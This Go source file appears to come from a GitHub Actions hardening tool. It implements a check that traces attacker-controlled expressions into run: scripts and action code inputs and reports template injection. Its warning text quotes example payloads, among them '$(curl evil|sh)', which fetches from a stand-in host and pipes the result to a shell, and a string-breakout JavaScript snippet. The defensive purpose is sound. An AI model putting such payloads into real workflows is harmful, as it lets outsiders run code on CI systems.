package checks

import (
	"context"
	"fmt"
	"strings"

	"github.com/hardener/hardener/internal/knowledge"
	"github.com/hardener/hardener/internal/repo"
	"github.com/hardener/hardener/internal/workflow"
)

type templateInjection struct{}

func (templateInjection) ID() string { return RuleTemplateInjection }

// sink is a value whose text runs as code once expressions are
// substituted.
type sink struct {
	v *workflow.Value
	// where names it in messages: "a bash run: script", "the script input of actions/github-script".
	where string
	// literal is set for JavaScript and Python sinks, where
	// `${{ toJSON(x) }}` outside a string literal is a literal value.
	literal bool
}

func (templateInjection) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
	e := taintEngine(snap)
	var out []Finding
	at := map[int]int{} // finding index by file offset, per file
	for _, f := range Load(snap).Files {
		clear(at)
		visit := func(sc scope, s *workflow.Step) {
			for _, k := range sinksOf(f, sc.job, s) {
				for _, fd := range injections(e, f, k, sc) {
					if i, dup := at[fd.Primary.Offset]; dup {
						if fd.Severity > out[i].Severity {
							out[i] = fd
						}
						continue
					}
					at[fd.Primary.Offset] = len(out)
					out = append(out, fd)
				}
			}
		}
		if f.Workflow != nil {
			for _, j := range f.Workflow.Jobs {
				for i, s := range j.Steps {
					visit(scope{f: f, job: j, step: i}, s)
				}
			}
		}
		if f.Action != nil {
			for i, s := range f.Action.Steps {
				visit(scope{f: f, step: i}, s)
			}
		}
	}
	return out, nil
}

// sinksOf lists the values of a step that run as code: `run:`, a custom
// `shell:` template, and the code inputs of known actions (sinks.yml).
func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
	var out []sink
	if s.Run != nil {
		sh := shellName(f, j, s)
		out = append(out, sink{v: s.Run, where: "a " + sh + "run: script", literal: strings.HasPrefix(sh, "python")})
	}
	if s.Shell != nil && strings.Contains(s.Shell.Value, "${{") {
		out = append(out, sink{v: s.Shell, where: "a shell: command"})
	}
	if s.Uses != nil {
		if u, ok := ParseUses(s.Uses.Value); ok && !u.Local && !u.Docker {
			if k := knowledge.SinkFor(u.Name()); k != nil {
				for i := range s.With {
					if k.Runs(s.With[i].Key.Value) {
						out = append(out, sink{v: &s.With[i].Value, literal: k.Language == "javascript" || k.Language == "python",
							where: fmt.Sprintf("the %s input of %s (%s code)", s.With[i].Key.Value, u.Name(), k.Language)})
					}
				}
			}
		}
	}
	return out
}

// shellName names the shell that runs a step's script, with a trailing
// space, or "" when it is the runner's default.
func shellName(f *workflow.File, j *workflow.Job, s *workflow.Step) string {
	v := s.Shell
	if v == nil && j != nil {
		v = j.DefaultShell
	}
	if v == nil && f.Workflow != nil {
		v = f.Workflow.DefaultShell
	}
	if v == nil || v.Value == "" {
		return ""
	}
	name, _, _ := strings.Cut(v.Value, " ")
	return name + " "
}

func injections(e *engine, f *workflow.File, k sink, sc scope) []Finding {
	exprs := workflow.Expressions(k.v.Value)
	if len(exprs) == 0 {
		return nil
	}
	offs := workflow.ExprPositions(f.Source.Src, k.v)
	var out []Finding
	for i, x := range exprs {
		if k.literal && jsonLiteral(k.v.Value, x) {
			continue
		}
		var worst taint
		var which string
		for _, fl := range x.Flows() {
			if t := e.ref(fl, sc); t.set && (!worst.set || t.sev > worst.sev) {
				worst, which = t, fl.Raw
			}
		}
		if !worst.set {
			continue
		}
		out = append(out, Finding{Rule: RuleTemplateInjection, Severity: worst.sev, Confidence: worst.conf,
			Message: injectionMessage(which, worst, k.where), Primary: locAt(f, offs[i], offs[i]+len(x.Raw)),
			Related: worst.via, Subject: which})
	}
	return out
}

func injectionMessage(which string, t taint, where string) string {
	const fix = "pass it through env: and use the variable (\"$VAR\") instead"
	const code = "text such as `$(curl evil|sh)` or `\"+evil()+\"` runs as code"
	switch {
	case t.why != "":
		return fmt.Sprintf("%s is expanded into %s; %s, and there %s: %s", which, where, t.why, code, fix)
	case which == t.origin:
		return fmt.Sprintf("%s is attacker-controlled and expanded into %s: %s; %s", which, where, code, fix)
	}
	return fmt.Sprintf("%s carries %s, which is attacker-controlled, and is expanded into %s: %s; %s",
		which, t.origin, where, code, fix)
}

// jsonLiteral reports whether an expression is `toJSON(…)` standing on its
// own in JavaScript or Python code: JSON is a literal there. Between
// quotes it is not: `"${{ toJSON(x) }}"` lets `"+evil()+"` out.
func jsonLiteral(code string, x workflow.Expr) bool {
	if !x.Parse().IsCall("tojson") {
		return false
	}
	before := strings.TrimRight(code[:x.Offset], " \t")
	after := strings.TrimLeft(code[x.Offset+len(x.Raw):], " \t")
	quote := func(s string, last bool) bool {
		if s == "" {
			return false
		}
		c := s[0]
		if last {
			c = s[len(s)-1]
		}
		return c == '"' || c == '\'' || c == '`'
	}
	return !quote(before, true) && !quote(after, false)
}
